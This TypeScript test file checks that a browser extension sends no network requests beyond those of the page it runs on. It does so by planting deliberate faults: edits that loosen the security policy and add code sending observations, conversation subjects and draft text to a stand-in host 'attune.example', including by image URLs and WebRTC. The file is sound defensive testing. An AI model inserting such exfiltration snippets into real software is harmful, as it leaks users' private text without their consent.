import type { Fault, Proof } from './proof.ts';
import { findCanaries } from './session/find-canaries.ts';
import type { SeenRequest } from './session/recording-proxy.ts';
import { foundAgainstWithout, type Session, sessionWith } from './session/session.ts';

/** Pictures of the desk that Chromium asks for again and again, as often as it likes: how often says nothing. */
const AS_OFTEN_AS_IT_LIKES = new Set(['desk:/icons.svg', 'desk:/mark.svg']);

/** A request as one line; whatever differs between two runs of the same script is left out. */
function lineOf({ method, url, headers, body }: SeenRequest): string {
  return [method, url, body, ...headers].join(' | ');
}

const isForDesk = ({ method, url }: SeenRequest): boolean => method !== 'CONNECT' && url.startsWith('desk:');

/** To hosts other than the desk, browsers speak of their own accord, never twice the same: the host is what counts. */
function hostOf({ url }: SeenRequest): string {
  return URL.parse(url)?.hostname || (url.split(':')[0] ?? '');
}

/** What of `now` is not in `before`, each as often as it is there. */
function beyond(now: readonly string[], before: readonly string[]): string[] {
  const left = new Map<string, number>();
  for (const line of before) left.set(line, (left.get(line) ?? 0) + 1);
  return now.filter((line) => {
    const count = left.get(line) ?? 0;
    left.set(line, count - 1);
    return count <= 0;
  });
}

function linesOf(session: Session): string[] {
  const lines = session.requests.filter(isForDesk).map((request) => [request.url, lineOf(request)] as const);
  const unlimited = new Set(lines.filter(([url]) => AS_OFTEN_AS_IT_LIKES.has(url)).map(([, line]) => line));
  return [...unlimited, ...lines.filter(([url]) => !AS_OFTEN_AS_IT_LIKES.has(url)).map(([, line]) => line)];
}

function foreignHosts(session: Session): Set<string> {
  return new Set(session.requests.filter((request) => !isForDesk(request)).map(hostOf));
}

/** What went out in `now` that did not in `without`. */
function sentBeyond(now: Session, without: Session): string[] {
  const known = foreignHosts(without);
  return [
    ...beyond(linesOf(now), linesOf(without)).map((line) => `sent to the desk, and not by its page: ${line}`),
    ...[...foreignHosts(now)].filter((host) => !known.has(host)).map((host) => `asked the proxy for ${host}`),
    ...[...now.hosts].filter((host) => !without.hosts.has(host)).map((host) => `in the browser’s network log: ${host}`),
    ...now.requests
      .filter((request) => !isForDesk(request))
      .flatMap((request) =>
        [...findCanaries(Buffer.from(lineOf(request)))].map((what) => `${what}, sent to ${hostOf(request)}`),
      ),
    ...(without.requests.some(({ method, url }) => method === 'POST' && url === 'desk:/sent')
      ? []
      : ['the proxy is blind: it did not see the reply that the page sends']),
    ...(without.hosts.has('127.0.0.1') ? [] : ['the network log is blind: the desk is not in it']),
  ];
}

/**
 * Our pages and our background are forbidden to speak to anyone by their own policy: a second wall. With it in place the
 * browser refuses what the faults below do, so it is taken down first.
 */
const wallDown: Fault['edits'][number] = {
  file: 'wxt.config.ts',
  find: '{ extension_pages: policy }',
  put: `{ extension_pages: "script-src 'self'" }`,
};

const faults: readonly Fault[] = [
  {
    name: 'the background sends each observation somewhere, and the policy lets it',
    edits: [
      wallDown,
      {
        file: 'lib/background/handlers.ts',
        find: 'if (!areKnownCues(observation.cueIds)) throw new DataRefused();',
        put: `void fetch('https://attune.example/collect', { method: 'POST', body: JSON.stringify(observation) });`,
      },
    ],
    found: /^asked the proxy for attune\.example$/m,
  },
  {
    name: 'the sidebar loads a picture from elsewhere, and the policy lets it',
    edits: [
      wallDown,
      {
        file: 'lib/coach/conversation-desk.ts',
        find: 'const { hostId, conversation } = snapshot;',
        put: `const { hostId, conversation } = snapshot;
          new Image().src = 'https://attune.example/dot.png?' + encodeURIComponent(conversation?.subject ?? '');`,
      },
    ],
    found: /^asked the proxy for attune\.example$/m,
  },
  {
    name: 'the content script sends the draft to the page’s own origin',
    edits: [
      {
        file: 'lib/bridge/serve-page.ts',
        find: "say({ type: 'draft', draft: { ...draft, text: readField(reading.editor) } });",
        put: `say({ type: 'draft', draft: { ...draft, text: readField(reading.editor) } });
          void fetch(location.origin + '/draft?' + encodeURIComponent(readField(reading.editor)));`,
      },
    ],
    found: /^sent to the desk, and not by its page: GET \| desk:\/draft\?/m,
  },
  {
    // No directive of a policy that browsers know forbids these two.
    name: 'the sidebar prepares a connection and opens WebRTC, which no policy forbids',
    edits: [
      {
        file: 'entrypoints/sidebar/main.tsx',
        find: 'const loaded = loadSettings();',
        put: `const loaded = loadSettings();
          const ahead = document.createElement('link');
          ahead.rel = 'preconnect';
          ahead.href = 'https://ahead.attune.example/';
          document.head.append(ahead);
          const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.attune.example:3478' }] });
          line.createDataChannel('line');
          void line.createOffer().then((offer) => line.setLocalDescription(offer));
          globalThis.line = line;`,
      },
    ],
    found: /^(?=.*log: ahead\.attune\.example$)(?=.*log: stun\.attune\.example$)/ms,
  },
];

export default {
  claim: 'whatever the agent does, the only requests are those that the page itself makes',
  kinds: ['chromium', 'firefox'],
  faults,
  async prove({ kind, dir }) {
    const now = await sessionWith(kind, dir);
    return foundAgainstWithout(kind, (without) => [...new Set(sentBeyond(now, without))]);
  },
} satisfies Proof;
